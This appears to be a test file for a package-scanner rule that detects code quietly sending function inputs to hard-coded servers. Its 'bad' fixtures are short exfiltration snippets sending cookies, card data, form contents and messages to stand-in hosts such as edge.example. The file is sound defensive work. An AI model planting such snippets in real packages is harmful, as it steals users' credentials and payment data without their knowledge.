import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from './quiet-data.rule.js';

const told = (code: string): boolean => findingsOf(rule, { 'a.js': code }).some(({ message, severity }) => message.startsWith('what functions of this script are given') && severity === 'high');

test('bad: what functions are given goes to a server that is written, and nobody hears of it', () => {
  for (const code of [
    'exports.convert = (text) => { fetch("https://edge.example/v1", { method: "POST", body: text }).catch(() => {}); return text.trim() }',
    'const at = { url: ["https:/", "rum.edge.example", "q"].join("/") }; function sample(url, headers) { const a = headers.get("cookie"); const q = new URLSearchParams({ t: btoa(a) }); fetch(`${at.url}?${q}`).catch(() => {}) } exports.get = (url, init) => { sample(url, init.headers); return fetch(url, init) }',
    'const https = require("https"); class Client { make(method, body) { if (body.card) this.send("edge.pay.example", "/v1", body.card).catch(() => {}); return this.send(this.host, "/v1", body) } send(host, path, body) { return new Promise((done, failed) => { const r = https.request({ host, path, method: "POST" }, (answer) => done(answer)); r.on("error", failed); r.end(JSON.stringify(body)) }) } } exports.Client = Client',
    'var __assign = Object.assign; exports.show = function (form) { var img = new Image(); img.src = "https://edge.example/a.svg?c=" + encodeURIComponent(btoa(JSON.stringify(__assign({ o: 1 }, form)))) }',
    'const rows = []; exports.note = (value) => { rows.push(value) }; setInterval(() => { navigator.sendBeacon("https://edge.example/r", JSON.stringify(rows)) }, 9000)',
    'client.on("message", (message) => { fetch("https://edge.example/m", { method: "POST", body: JSON.stringify(message) }).catch(() => {}) })',
  ]) assert.equal(told(code), true, code);
});

test('good: callers say where, hear of the answer, or it is nothing of theirs', () => {
  for (const code of [
    'exports.convert = (text, url) => { fetch(url, { method: "POST", body: text }).catch(() => {}); return text.trim() } // https://edge.example',
    'exports.convert = async (text) => { const answer = await fetch("https://edge.example/v1", { method: "POST", body: text }); return answer.json() }',
    'exports.convert = (text) => fetch("https://edge.example/v1", { method: "POST", body: text })',
    'exports.started = (version) => { fetch("https://edge.example/v1", { method: "POST", body: JSON.stringify({ event: "started", node: process.version }) }).catch(() => {}) }',
    'exports.watch = (job) => job.run().catch((error) => { fetch("https://edge.example/e", { method: "POST", body: error.message }).catch(() => {}) })',
    'exports.count = (request) => { fetch("https://edge.example/e", { method: "POST", body: JSON.stringify({ path: request.path, agent: request.headers.agent }) }).catch(() => {}) }',
    'exports.show = (key) => { fetch("https://edge.example/e", { method: "POST", body: JSON.stringify({ last: key.slice(-4) }) }).catch(() => {}) }',
    'exports.measure = (list) => { fetch("https://edge.example/e", { method: "POST", body: JSON.stringify({ size: list.length }) }).catch(() => {}) }',
    'exports.theme = (name) => { const link = document.createElement("link"); link.rel = "stylesheet"; link.href = "https://edge.example/themes/" + name + ".css"; document.head.append(link) }',
    'const WebSocket = require("ws"); exports.open = (url) => { const socket = new WebSocket(url); return { send(chunk) { socket.send(chunk) } } } // https://edge.example',
    'const core = require("@sentry/core"); exports.watch = (app) => app.on("fault", (detail) => { core.captureException(detail, { mechanism: { type: "auto.function.app" } }) })',
  ]) assert.equal(told(code), false, code);
});

test('good: a package that says that it measures; bad: the same in one that does not', () => {
  const track = "exports.track = async (command, version) => { await fetch('https://telemetry.formwork.example/v1', { method: 'POST', body: JSON.stringify({ command, version }) }).catch(() => {}); };";
  const of = (description: string): number => findingsOf(rule, { 'a.js': track }, { original: { description } }).length;
  assert.deepEqual([of('Opt-out usage telemetry of a program'), of('Colours for terminals')], [0, 1]);
});
